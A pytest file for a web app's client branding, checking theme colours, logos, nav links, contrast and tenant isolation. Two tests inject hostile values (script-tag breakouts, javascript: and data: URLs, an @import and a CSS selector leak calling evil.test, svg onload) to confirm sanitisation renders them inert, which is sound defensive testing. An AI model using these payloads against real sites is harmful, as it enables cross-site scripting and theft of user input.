"""Branding on every page, learner2's client's own, and hostile values rendered inert."""

from __future__ import annotations

import json

import pytest

from tests.web.conftest import soup
from webapp.branding import AA_TEXT, contrast, darken_until_readable, parse_hex, readable_on

LEARNER_PAGES = ["/dashboard", "/learning", "/waitlist", "/redeem", "/certificates", "/badges",
                 "/archive", "/profile"]  # fmt: skip


def brand_vars(response, browser) -> dict[str, str]:
    """The CSS custom properties of the theme stylesheet the page links."""
    href = soup(response).find("link", href=lambda h: h and h.startswith("/branding/theme.css"))
    style = browser.get(href["href"]).get_data(as_text=True)
    body = style[style.index("{") + 1 : style.rindex("}")]
    return dict(part.split(":", 1) for part in body.split(";") if part)


def set_appearance(sandbox, client_id=None, **columns):
    where = "client_id IS NULL" if client_id is None else "client_id = ?"
    params = [] if client_id is None else [client_id]
    with sandbox.store.write() as conn:
        for column, value in columns.items():
            conn.execute(f"UPDATE appearance SET {column} = ? WHERE {where}", [value, *params])


@pytest.mark.parametrize("path", LEARNER_PAGES)
def test_every_learner_page_wears_the_companys_branding(learner, path):
    response = learner.get(path)
    assert response.status_code == 200, path
    page = soup(response)
    assert brand_vars(response, learner)["--brand-accent"] == "#f2c200"
    assert page.select_one(".brand__logo")["src"] == "/sandbox/assets/acme-logo.svg"
    assert page.find("link", rel="icon")["href"] == "/sandbox/assets/favicon.svg"
    nav = {a.find(string=True).strip(): a["href"] for a in page.select(".company-nav a")}
    assert nav["Home"] == "/" and nav["Help Center"].startswith("https://help.acme.test")
    assert page.find("link", href=lambda h: h and h.startswith("/branding/custom.css"))


def test_text_on_the_brand_colours_is_readable(learner):
    variables = brand_vars(learner.get("/dashboard"), learner)
    for background, text in (
        ("--brand-accent", "--brand-accent-text"),
        ("--brand-secondary", "--brand-secondary-text"),
    ):
        assert contrast(variables[background], variables[text]) >= AA_TEXT
    assert contrast(variables["--brand-link"], "#ffffff") >= AA_TEXT


def test_learner2_sees_globex_branding_not_acmes(learner2):
    response = learner2.get("/dashboard")
    page = soup(response)
    assert page.select_one(".brand__logo")["src"] == "/sandbox/assets/globex-logo.svg"
    assert brand_vars(response, learner2)["--brand-accent"] != "#f2c200"
    css = learner2.get("/branding/custom.css").get_data(as_text=True)
    assert "text-transform: uppercase" in css  # Globex's own rules
    assert "f2c200" not in css.lower()  # not Acme's


def test_custom_css_is_served_sanitised_as_its_own_stylesheet(learner):
    response = learner.get("/branding/custom.css")
    assert response.mimetype == "text/css"
    css = response.get_data(as_text=True)
    assert ".site-header" in css
    assert "@import" not in css and "javascript" not in css
    page = learner.get("/dashboard").get_data(as_text=True)
    assert "@import" not in page and "fonts.acme.test" not in page


HOSTILE_CSS = (
    ".ok { color: red; background: url(javascript:alert(1)) }\n"
    "</style><script>alert(1)</script>\n"
    '@import url("https://evil.test/x.css");\n'
    ".a { background: url(javascript:alert(1)); color: red }\n"
    "input[value^='a'] { background: url(https://evil.test/leak.png) }\n"
    ".b { width: expression(alert(1)); }\n"
)


def test_hostile_custom_css_renders_inert(learner, sandbox):
    set_appearance(sandbox, custom_css=HOSTILE_CSS)
    learner.client.application.extensions["instance"].cache.clear()
    page = learner.get("/dashboard").get_data(as_text=True)
    assert "<script>alert" not in page and "evil.test" not in page
    css = learner.get("/branding/custom.css").get_data(as_text=True)
    assert css.strip() == ".ok {\n  color: red;\n}"


def test_hostile_urls_and_colours_from_the_api_render_inert(learner, sandbox):
    links = [
        {"label": "Evil", "href": "javascript:alert(1)"},
        {"label": "Sneaky", "href": "java\nscript:alert(1)"},
        {"label": "Data", "href": "data:text/html,<script>alert(1)</script>"},
        {"label": "<b>Fine</b>", "href": "/catalog"},
    ]
    set_appearance(
        sandbox,
        nav_links=json.dumps(links),
        logo_asset="javascript:alert(1)",
        favicon="data:image/svg+xml,<svg onload=alert(1)>",
        accent_color="red;}</style><script>alert(1)</script>",
        background_asset='https://x.test/a.png"); background: url(javascript:alert(1)',
    )
    learner.client.application.extensions["instance"].cache.clear()
    response = learner.get("/dashboard")
    html = response.get_data(as_text=True)
    page = soup(response)
    assert "javascript:" not in html and "<script>alert" not in html
    assert "<style" not in html  # no inline styles at all: the theme is its own stylesheet
    hrefs = [a["href"] for a in page.select(".company-nav a")]
    assert hrefs == ["/catalog"]
    assert page.select_one(".company-nav a").find(string=True) == "<b>Fine</b>"  # shown as text
    assert page.select_one(".brand__logo") is None  # no logo rather than a hostile one
    assert page.find("link", rel="icon") is None
    assert brand_vars(response, learner)["--brand-accent"] == "#1f5fbf"  # Atrium's default
    assert brand_vars(response, learner)["--brand-background"] == "none"


@pytest.mark.parametrize(
    ("value", "parsed"),
    [("#F2C200", "#f2c200"), ("abc", "#aabbcc"), ("#12345", None), ("red", None), (None, None)],
)
def test_brand_colours_are_parsed_strictly(value, parsed):
    assert parse_hex(value) == parsed


@pytest.mark.parametrize(
    "colour", ["#f2c200", "#ffffff", "#000000", "#777777", "#1b2a4a", "#00ff00"]
)
def test_any_brand_colour_gets_a_readable_text_colour(colour):
    assert contrast(colour, readable_on(colour)) >= AA_TEXT
    assert contrast(darken_until_readable(colour), "#ffffff") >= AA_TEXT
